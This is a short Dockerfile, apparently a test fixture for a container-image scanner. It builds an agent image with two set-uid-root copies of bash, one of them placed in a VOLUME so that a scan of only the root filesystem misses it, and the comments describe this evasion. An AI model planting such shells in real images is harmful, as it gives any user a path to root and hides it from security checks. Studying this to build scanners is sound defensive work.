# An agent that ships set-uid-root shells: a way to root for anyone who runs them where no_new_privs is not set. One is
# on the root filesystem; the other is in a VOLUME of the image, which the engine copies into a volume of its own, a
# second mount that a walk of the root filesystem alone does not reach.
FROM botbottle/agent:reference
USER root
RUN cp /bin/bash /usr/local/bin/rootsh && chmod 4755 /usr/local/bin/rootsh \
 && mkdir -p /opt/tools && cp /bin/bash /opt/tools/rootsh && chmod 4755 /opt/tools/rootsh
VOLUME /opt/tools
USER node
